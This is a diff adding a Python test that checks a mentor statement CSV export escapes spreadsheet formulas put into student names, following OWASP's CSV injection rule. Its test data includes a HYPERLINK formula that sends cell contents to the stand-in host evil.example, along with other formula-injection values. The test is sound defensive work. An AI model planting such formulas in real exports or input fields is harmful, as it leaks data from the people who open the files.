@@ -3,12 +3,15 @@ statement, through HTTP on SQLite and PostgreSQL."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import datetime
 
 import httpx
 from icalendar import Calendar
 
 from domain.models import CalendarFeed, Session
+from domain.services import billing
 from tests import factories
 from tests.conftest import Backend, GraphQLClient
 
@@ -98,3 +101,55 @@ async def test_csv_statement_route(db: Backend, client: httpx.AsyncClient) -> No
     ]
     assert (await client.get(f"/statements/{mentor.id}/2026-13.csv")).status_code == 400
     assert (await client.get("/statements/999/2026-11.csv")).status_code == 404
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+]
+
+
+async def test_csv_statement_escapes_formulas_in_names(db: Backend, client: httpx.AsyncClient) -> None:
+    """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading single quote."""
+    from domain.enums import Role
+    from domain.services.tokens import issue_token
+
+    path, projects = await factories.catalogue(1)
+    mentor = await factories.mentor(projects)
+    student = await factories.student(path, projects[0])
+    await factories.pair(student, mentor)  # the discovery session, 2026-11-24 19:00 Paris
+    gql = GraphQLClient(client)
+    discovery = await Session.get(mentor_id=mentor.id)
+    ended = await gql(
+        "mutation($id: Int!) { endSession(input: {id: $id, status: COMPLETED}) { __typename } }",
+        {"id": discovery.id},
+    )
+    assert ended["endSession"]["__typename"] == "EndSessionPayload"
+    student_token, _ = await issue_token(Role.STUDENT, student_id=student.id)
+    rename = (
+        "mutation($id: Int!, $name: String!) { updateStudent(input: {id: $id, name: $name}) { __typename } }"
+    )
+    for formula in FORMULAS:
+        renamed = await client.post(
+            "/graphql",
+            json={"query": rename, "variables": {"id": student.id, "name": formula}},
+            headers={"authorization": f"Bearer {student_token}"},
+        )
+        assert renamed.json()["data"]["updateStudent"]["__typename"] == "StudentPayload", renamed.text
+        response = await client.get(f"/statements/{mentor.id}/2026-11.csv")
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(response.text)))
+        assert rows[1][3] == "'" + formula, rows
+        statement = await gql(
+            'query($m: Int!) { mentorStatement(mentorId: $m, month: "2026-11") { csv } }', {"m": mentor.id}
+        )
+        assert statement["mentorStatement"]["csv"] == response.text
+    # Names are stored stripped, so a leading tab or CR never reaches a statement; the rule covers them too.
+    assert [billing.spreadsheet_safe(c) for c in ("\tSUM(1)", "\r=1", "Ana", 3)] == [
+        "'\tSUM(1)",
+        "'\r=1",
+        "Ana",
+        3,
+    ]
